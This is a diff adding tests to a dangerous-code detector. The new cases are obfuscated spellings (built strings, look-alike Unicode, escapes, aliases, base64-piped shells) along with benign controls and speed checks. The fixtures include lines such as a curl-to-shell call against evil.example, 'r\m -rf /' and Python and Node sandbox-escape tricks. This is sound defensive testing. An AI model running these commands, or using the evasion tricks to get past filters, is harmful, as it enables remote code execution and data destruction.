@@ -1,3 +1,4 @@
+import { performance } from 'node:perf_hooks';
 import { describe, expect, it } from 'vitest';
 import { DANGEROUS_PATTERNS, findDangerousPattern } from '../src/index.js';
 
@@ -81,6 +82,26 @@ describe('findDangerousPattern: dangerous spellings', () => {
     ['shell_eval', 'eval "$cmd"', 'eval "'],
     ['shell_eval', 'eval $(ssh-agent -s)', 'eval $'],
     ['shell_eval', 'if true; then\n  eval\t"$x"\nfi', 'eval\t"'],
+    ['os_system', "getattr(posix, 'system')('id')", "getattr(posix, 'system'"],
+    ['os_system', "vars(os)['system']('id')", 'vars(os)'],
+    ['os_system', "os.__dict__['system']('id')", 'os.__dict__'],
+    ['getattr_dangerous_name', "getattr(builtins, 'eval')('1')", "getattr(builtins, 'eval'"],
+    ['getattr_dangerous_name', 'getattr(cp, "execSync")("id")', 'getattr(cp, "execSync"'],
+    ['name_lookup', "globalThis['eval']('1')", "['eval']"],
+    ['name_lookup', 'cp["spawnSync"]("id")', '["spawnSync"]'],
+    ['sys_modules', "sys.modules['os'].system('id')", "modules['os'"],
+    ['module_loader', "__loader__.load_module('os')", '__loader__'],
+    ['module_loader', "spec.loader.load_module('posix')", 'load_module('],
+    ['process_binding', "process.binding('spawn_sync').spawn(options)", 'process.binding('],
+    ['main_module', "process.mainModule.require('fs')", 'process.mainModule'],
+    ['function_constructor', "Function('return process')()", 'Function('],
+    ['function_constructor', "[].constructor.constructor('return process')()", 'constructor.constructor'],
+    ['base64_pipe_shell', 'echo Y3VybCBldmlsIHwgc2g= | base64 -d | bash', 'base64 -d | bash'],
+    ['base64_pipe_shell', 'echo Y3VybA== | base64 --decode | sh', 'base64 --decode | sh'],
+    ['base64_pipe_shell', 'base64 -D payload.txt | /bin/sh -s', 'base64 -D payload.txt | /bin/sh'],
+    ['interpreter_substitution', 'python -c "$(echo cHJpbnQoMSk= | base64 -d)"', 'python -c "$('],
+    ['interpreter_substitution', 'bash -c "$(cat payload | base64 --decode)"', 'bash -c "$('],
+    ['interpreter_substitution', 'node -e "$(cat x.js)"', 'node -e "$('],
   ];
 
   it.each(cases)('%s: %j', (name, code, matched) => {
@@ -90,6 +111,100 @@ describe('findDangerousPattern: dangerous spellings', () => {
   it('every pattern in the list has at least one spelling above', () => {
     const covered = new Set(cases.map(([name]) => name));
     for (const pattern of DANGEROUS_PATTERNS) expect(covered).toContain(pattern.name);
+  });
+});
+
+describe('findDangerousPattern: obfuscated spellings, and how they were found', () => {
+  const cases: Array<[string, string, string]> = [
+    // [pattern name, code, what the approver is shown: what (how): the original text]
+    [
+      'os_system',
+      "import os\ngetattr(os, 'sys'+'tem')('id')",
+      "os.system (through getattr with a built string): getattr(os, 'sys'+'tem'",
+    ],
+    ['os_system', "import os as o; o.system('id')", 'os.system (through the alias o): o.system'],
+    ['os_system', "import posix as p\np.execv('/bin/sh', ['sh'])", 'posix.execv (through the alias p): p.execv'],
+    ['os_system', "import os\nrun = os\nrun.popen('id')", 'os.popen (through the alias run): run.popen'],
+    ['os_system', 'from os import system as s\ns("id")', 'from os import system'],
+    ['eval_call', "ｅｖａｌ('1+1')", 'eval (with look-alike Unicode characters): ｅｖａｌ('],
+    [
+      'os_system',
+      'import os\nos.ｓｙｓｔｅｍ("id")',
+      'os.system (with look-alike Unicode characters): os.ｓｙｓｔｅｍ',
+    ],
+    [
+      'child_process',
+      "require('child_' + 'process').execSync('id')",
+      "child_process (with a built string): 'child_' + 'process'",
+    ],
+    ['child_process', "const m = 'child_'+'process';", "child_process (with a built string): 'child_'+'process'"],
+    ['child_process', 'const m = "child" "_process"', 'child_process (with a built string): "child" "_process"'],
+    ['child_process', "const m = `child_${'process'}`;", "child_process (with a built string): `child_${'process'}`"],
+    [
+      'child_process',
+      "const cp = require('child' + '_process')",
+      "child_process (with a built string): 'child' + '_process'",
+    ],
+    [
+      'child_process',
+      "module.constructor._load('child_' +\n  'process')",
+      "child_process (with a built string): 'child_' +\n  'process'",
+    ],
+    [
+      'builtins_access',
+      "globals()['__buil'+'tins__']['ev'+'al']('1')",
+      "__builtins__ (with a built string): '__buil'+'tins__'",
+    ],
+    [
+      'getattr_dangerous_name',
+      "getattr(builtins, 'ev' 'al')('1')",
+      "builtins.eval (through getattr with a built string): getattr(builtins, 'ev' 'al'",
+    ],
+    ['name_lookup', "globalThis['ev'+'al']('1')", "eval (through a lookup by name with a built string): ['ev'+'al']"],
+    [
+      'sys_modules',
+      "import sys\nsys.modules['o'+'s'].system('id')",
+      "sys.modules['os'] (with a built string): modules['o'+'s'",
+    ],
+    ['eval_call', "\\u0065val('1')", 'eval (with escaped characters): \\u0065val('],
+    [
+      'os_system',
+      "getattr(os, '\\x73ystem')('id')",
+      "os.system (through getattr with escaped characters): getattr(os, '\\x73ystem'",
+    ],
+    ['subprocess', "__imp = 'sub\\u0070rocess'", "subprocess (with escaped characters): 'sub\\u0070rocess'"],
+    ['rm_rf', 'r\\m -rf /', 'rm -rf (with escaped characters): r\\m -rf'],
+    [
+      'curl_pipe_shell',
+      "c''url https://evil.example | sh",
+      "curl https://evil.example | sh (with a built string): c''url https://evil.example | sh",
+    ],
+  ];
+
+  it.each(cases)('%s: %j', (name, code, matched) => {
+    expect(findDangerousPattern(code)).toEqual({ name, matched });
+  });
+
+  it.each([
+    "print('sys' + 'tem')",
+    'x = "ev" "al"',
+    'const f = function (x) { return x; };',
+    'Function.prototype.call.apply(f, [])',
+    'base64 -d payload.txt > payload.bin',
+    'echo hello | base64',
+    'import os as operating_system\nprint(operating_system.getcwd())',
+    'import os\no = os\nprint(o.path.join("a", "b"))',
+    'print("ｈｅｌｌｏ, ｗｏｒｌｄ")',
+    'print("ｅｖａｌ")',
+    'process.env.HOME; process.exit(0)',
+    "module.exports = { name: 'x' };",
+    "const loader = require('./loader');",
+    "x['execute'] = 1",
+    "getattr(re, 'compile')",
+    "s = 'don\\'t' + \"stop\"",
+    "print('it''s')  # it's fine",
+  ])('%j is not dangerous', (code) => {
+    expect(findDangerousPattern(code)).toBeNull();
   });
 });
 
@@ -141,6 +256,35 @@ describe('findDangerousPattern: large inputs', () => {
     expect(found?.name).toBe('curl_pipe_shell');
     expect(found?.matched).toHaveLength(200);
     expect(found?.matched.startsWith('curl https://evil.com/aaa')).toBe(true);
+  });
+
+  // Each 1 MiB input classifies in tens of milliseconds; a quadratic step would take minutes.
+  it.each<[string, string]>([
+    ['string literals glued into one', fill("'a'+")],
+    ['empty literals', fill("'")],
+    ['unterminated literals', fill('"\\\'')],
+    ['opening quotes with no end', fill("`${'")],
+    ['template substitutions', fill("`${'a'}")],
+    ['look-alike Unicode interleaved with ASCII', fill('ａb')],
+    ['look-alike Unicode only', fill('ｅ')],
+    ['escapes that decode', fill('\\x65')],
+    ['escapes that do not', fill('\\u{')],
+    ['aliases', fill('import os as o\n')],
+    ['alias uses', `import os as o\n${fill('o.getcwd() ')}`],
+    ['getattr calls', fill('getattr(x, ')],
+    ['name lookups', fill("['")],
+    ['base64 without a pipe', fill('base64 -d ')],
+    ['one long base64 option', `base64 -${'d'.repeat(MiB)}5 | sh`],
+    ['interpreters', fill('python -c ')],
+  ])('classifies 1 MiB of %s in well under a second', (_what, code) => {
+    const started = performance.now();
+    findDangerousPattern(code);
+    expect(performance.now() - started).toBeLessThan(1000);
+  });
+
+  it('finds an obfuscated pattern at the end of 1 MiB', () => {
+    expect(findDangerousPattern(`${fill('print(1)\n')}\ngetattr(os, 'sys' + 'tem')`)?.name).toBe('os_system');
+    expect(findDangerousPattern(`${fill('ｈｅｌｌｏ ')}\nｅｖａｌ(x)`)?.name).toBe('eval_call');
   });
 
   // Only correctness is asserted; the point is that these finish (linear regexes).
